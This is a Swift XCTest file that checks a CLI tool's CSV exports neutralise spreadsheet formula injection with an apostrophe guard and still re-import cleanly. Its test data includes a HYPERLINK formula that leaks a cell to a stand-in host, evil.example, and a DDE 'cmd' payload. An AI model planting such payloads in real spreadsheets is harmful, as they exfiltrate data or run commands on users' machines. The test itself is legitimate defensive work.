import XCTest

/// Exports cannot be turned against the spreadsheet that opens them, and still import again (issue 13 §3).
final class SpreadsheetEndToEndTests: XCTestCase {
    var dir: URL!
    var db: String { dir.appendingPathComponent("t.sqlite").path }

    override func setUpWithError() throws {
        try GridroomCLI.requireBinary()
        dir = FileManager.default.temporaryDirectory.appendingPathComponent("gridroom-e2e-csv-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
    }

    override func tearDownWithError() throws { if let dir { try? FileManager.default.removeItem(at: dir) } }

    @discardableResult
    func run(_ args: [String], now: String = "2026-11-20T16:00") throws -> (status: Int32, out: String, err: String) {
        try GridroomCLI.run(args, db: db, now: now)
    }

    func file(_ name: String, _ text: String) throws -> String {
        let p = dir.appendingPathComponent(name).path
        try text.write(toFile: p, atomically: true, encoding: .utf8)
        return p
    }

    func testFormulasAreNeutralisedOnExportAndExportsImportBack() throws {
        XCTAssertEqual(try run(["init", "--demo"], now: "2026-11-20T08:00").status, 0)
        let hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
        let edited = try file("grids-edit.csv", "code,name,level,parent,row,col\nDH-01,\"\(hyperlink.replacingOccurrences(of: "\"", with: "\"\""))\",area,DH,,\n")
        let imp = try run(["import", "grids", edited])
        XCTAssertEqual(imp.status, 0, imp.err)
        let export = try run(["grids", "--format", "csv"])
        XCTAssertTrue(export.out.hasPrefix("\u{FEFF}code,name,level,parent,row,col,head,instructor\n"), export.out)
        // The 6-column file leaves DH-01's head and instructor as they were.
        XCTAssertTrue(export.out.contains("DH-01,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",area,DH,,,W001,duty1\n"), export.out)
        // The export (BOM, guards and all) imports back unchanged.
        let again = try run(["import", "grids", try file("grids-export.csv", export.out)])
        XCTAssertEqual(again.status, 0, again.err)
        XCTAssertTrue(again.out.contains("（UTF-8 with BOM）"), again.out)
        XCTAssertTrue(again.out.contains("写入 0，"), again.out)
        XCTAssertTrue(try run(["grids", "--format", "json"]).out.contains("\"name\" : \"=HYPERLINK("), "the name keeps its = inside")

        for title in ["=1+1", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"] {
            let r = try run(["case", "new", "--source", "hotline", "--grid", "DH-01-01", "--category", "SR03", "--title", title])
            XCTAssertEqual(r.status, 0, r.err)
        }
        let cases = try run(["cases", "--format", "csv"]).out
        XCTAssertTrue(cases.hasPrefix("\u{FEFF}number,"), cases)
        for guarded in ["'=1+1", "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3"] {
            XCTAssertTrue(cases.contains("," + guarded + "\n"), "\(guarded) in \(cases)")
        }
    }
}
